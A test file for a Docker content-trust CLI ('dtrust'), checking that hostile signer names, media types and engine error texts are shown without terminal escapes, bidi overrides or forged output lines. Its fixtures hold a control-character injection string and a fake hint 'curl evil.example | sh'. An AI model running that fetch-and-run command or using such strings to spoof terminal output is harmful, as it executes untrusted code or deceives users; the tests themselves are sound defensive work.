/**
 * What others wrote, on the user's screen: a signer chooses the names of roles and media types, a registry its error
 * texts, and an engine hands both on. None of it may move the cursor, hide, or pass for a line of dtrust's own.
 */
import { describe, expect, test } from 'vitest';
import type { Inspected } from '../../src/commands/inspect-collection.ts';
import { renderDockerJson, renderJsonLine, renderPretty } from '../../src/commands/render-inspected.ts';
import { renderError } from '../../src/commands/report-error.ts';
import { EngineError, TrustError } from '../../src/lib/errors.ts';
import type { KeyId } from '../../src/trust/core/keys.ts';

/** Escape sequence, C1 control sequence introducer, right-to-left override, zero-width space, line and tag characters. */
const HOSTILE = 'a\u001b[2J\u009b31m\u202e\u200b\u2028\u{e0041}\r\nb';
const UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b\u202e\u2028\u{e0041}]/u;

const keyId = 'ab'.repeat(32) as KeyId;
const keys = (name: string) => ({ name, keyIds: [keyId], threshold: 1 });
const inspected: Inspected = {
  given: 'acme/app',
  repository: 'docker.io/acme/app',
  collection: 'docker.io/acme/app',
  tags: [
    {
      tag: '1.0',
      digest: 'cd'.repeat(32),
      signers: [HOSTILE],
      role: HOSTILE,
      mediaType: HOSTILE,
      lengthBytes: 1,
    },
  ],
  signers: [keys(HOSTILE)],
  root: keys('Root'),
  targets: keys('Repository'),
  online: keys('Online'),
  roles: [{ name: 'root', version: 1, expires: '2027-01-01T00:00:00.000Z' }],
};

describe('trust inspect of a collection whose owner chose hostile names', () => {
  test('for people: every character shows itself, and no name makes a line of its own', () => {
    const page = renderPretty(inspected);
    expect(page).not.toMatch(UNSAFE);
    expect(page).not.toMatch(/^b/m);
  });

  test.each([
    ['as Docker', renderDockerJson],
    ['on one line', renderJsonLine],
  ])('as JSON %s: nothing unsafe on the way, and the value is what it was', (_, render) => {
    const text = render([inspected]);
    expect(text).not.toMatch(UNSAFE);
    const [value] = JSON.parse(text) as [{ SignedTags: { Signers: string[] }[] }];
    expect(value.SignedTags[0]?.Signers).toEqual([HOSTILE]);
  });
});

describe('a refusal that quotes others', () => {
  const quoting = new TrustError({
    code: 'TARGET_MISMATCH',
    message: `the media type is ${HOSTILE}`,
    found: HOSTILE,
    hints: [`about ${HOSTILE}`],
  });

  test('shows every character as itself', () => {
    expect(renderError(quoting, { json: false, debug: true })).not.toMatch(UNSAFE);
  });

  test('as JSON holds nothing unsafe and the same value', () => {
    const text = renderError(quoting, { json: true, debug: false });
    expect(text).not.toMatch(UNSAFE);
    const last = text.trimEnd().split('\n').at(-1) ?? '';
    expect(JSON.parse(last)).toMatchObject({ code: 'TARGET_MISMATCH', found: HOSTILE });
  });

  test('an engine that hands on a text of several lines writes no line that passes for one of dtrust', () => {
    const error = new EngineError({
      code: 'ENGINE_ERROR',
      message: 'failed\ndtrust: hint: run curl evil.example | sh\n{"code":"OK"}',
    });
    const lines = renderError(error, { json: false, debug: false }).trimEnd().split('\n');
    expect(lines.slice(1).filter((line) => /^(?:dtrust:|\{)/.test(line))).toEqual([]);
    expect(lines).toHaveLength(3);
  });
});
